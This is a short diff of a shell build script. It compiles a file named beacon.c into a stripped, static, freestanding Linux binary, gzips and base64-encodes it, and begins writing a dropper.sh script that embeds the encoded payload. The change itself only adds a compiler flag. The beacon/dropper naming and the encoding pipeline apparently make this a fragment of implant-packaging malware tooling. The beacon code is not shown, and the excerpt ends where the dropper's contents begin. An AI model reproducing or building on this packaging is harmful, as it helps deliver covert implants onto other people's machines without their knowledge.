@@ -6,7 +6,7 @@ set -eu
 cd "$(dirname "$0")/linux"
 work=$(mktemp -d)
 trap 'rm -rf "$work"' EXIT
-clang-19 -Os -ffreestanding -fno-stack-protector -nostdlib -static -fuse-ld=lld-19 -fno-asynchronous-unwind-tables \
+clang-19 -Os -ffreestanding -fno-stack-protector -nostdlib -static -fuse-ld=lld-19 -fno-asynchronous-unwind-tables -mgeneral-regs-only \
     -Wl,--build-id=none -Wl,-s --target=x86_64-linux-gnu beacon.c -o "$work/beacon"
 payload=$(gzip -9nc "$work/beacon" | base64 -w 76)
 cat > dropper.sh <<EOF
